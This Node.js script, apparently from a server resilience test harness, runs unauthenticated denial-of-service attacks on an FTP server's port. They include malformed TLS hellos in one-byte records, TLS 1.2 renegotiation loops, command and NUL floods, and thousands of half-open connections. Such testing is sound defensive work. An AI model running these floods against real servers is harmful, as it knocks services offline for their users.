/**
 * One attacker without an account, in a process of its own. usage: node attacker.cjs ATTACK PORT SECONDS
 * Attacks the explicit port.
 */
const tls = require('node:tls');
const { connection, cost, flood, lanes, over, run } = require('./attacking.cjs');

const HELLO_OF_NO_LENGTH = [1, 0, 0, 0];

/** AUTH TLS first, then `act` on the bare connection. */
function afterAuth(act) {
  let asked = false;
  return connection(
    (send) => send(Buffer.from('AUTH TLS\r\n')),
    (chunk, send, socket) => {
      if (asked || !String(chunk).includes('234 ')) return;
      asked = true;
      act(send, socket);
    },
  );
}

const oneByteRecord = (byte) => Buffer.from([22, 3, 1, 0, 1, byte]);

/** A TLS client behind AUTH TLS. */
function encrypted(options, act) {
  return new Promise((resolve) => {
    void afterAuth((_send, socket) => {
      socket.removeAllListeners('data');
      cost.bytes += 300; // about what a hello takes
      const secure = tls.connect({ socket, rejectUnauthorized: false, ...options });
      secure.on('error', () => socket.destroy());
      secure.once('secureConnect', () => act(secure, socket));
    }).then(resolve);
  });
}

const attacks = {
  /** A hello that says it has no length, in records of one byte. */
  'hello-bomb': () =>
    lanes(5, () =>
      afterAuth((send, socket) => {
        for (const byte of HELLO_OF_NO_LENGTH) send(oneByteRecord(byte));
        const more = () => {
          for (let records = 0; records < 50 && !socket.destroyed; records += 1) send(oneByteRecord(0));
          if (!socket.destroyed && !over()) setTimeout(more, 20);
        };
        more();
      }),
    ),
  /** The longest hello there may be, byte by byte. */
  'hello-by-byte': () =>
    lanes(16, () =>
      afterAuth((send, socket) => {
        send(Buffer.from([22, 3, 1, 0x40, 0, 1, 0, 0x3f, 0]));
        const more = () => {
          for (let sent = 0; sent < 20 && !socket.destroyed; sent += 1) send(Buffer.from([0]));
          if (!socket.destroyed && !over()) setImmediate(more);
        };
        more();
      }),
    ),
  'refused-commands': () => lanes(8, () => connection(flood(Buffer.from('USER nobody\r\n'.repeat(64))))),
  'line-ends': () => lanes(8, () => connection(flood(Buffer.alloc(65_536, '\n')))),
  noops: () => lanes(8, () => connection(flood(Buffer.from('NOOP\r\n'.repeat(8_192))))),
  nuls: () => lanes(8, () => connection(flood(Buffer.from('A\0\r\n'.repeat(8_192))))),
  'one-long-line': () => lanes(8, () => connection(flood(Buffer.alloc(65_536, 'x')))),
  connects: () => lanes(16, () => connection((_send, socket) => socket.destroy())),
  'garbage-for-a-hello': () => lanes(8, () => afterAuth((send) => send(Buffer.alloc(512, 0x41)))),
  /** Whole handshakes, each of which costs the server a signature. */
  handshakes: () => lanes(8, () => encrypted({}, (_secure, socket) => socket.destroy())),
  /** TLS 1.2 lets a client ask for another handshake (RFC 5246 section 7.4.1.1). */
  renegotiation: () =>
    lanes(4, () =>
      encrypted({ maxVersion: 'TLSv1.2' }, (secure, socket) => {
        const again = () => {
          if (socket.destroyed || over()) return;
          cost.bytes += 300;
          secure.renegotiate({ rejectUnauthorized: false }, (error) => (error ? socket.destroy() : again()));
        };
        again();
      }),
    ),
  'odd-alpn-and-sni': () =>
    lanes(4, () =>
      encrypted(
        { ALPNProtocols: Array.from({ length: 200 }, (_, index) => `x${index}`), servername: `${'a'.repeat(60)}.`.repeat(4).slice(0, 250) },
        (_secure, socket) => socket.destroy(),
      ),
    ),
  /** Commands with long replies, whose replies nobody reads. */
  'replies-unread': () =>
    lanes(32, () =>
      connection((send, socket) => {
        socket.pause();
        flood(Buffer.from('HELP\r\n'.repeat(512)))(send, socket);
      }),
    ),
  /** Connections that say AUTH TLS and then nothing. */
  'half-open': async () => {
    await Promise.all(Array.from({ length: Number(process.env.HALF_OPEN ?? 2_000) }, () => afterAuth(() => {})));
  },
};

run(attacks);
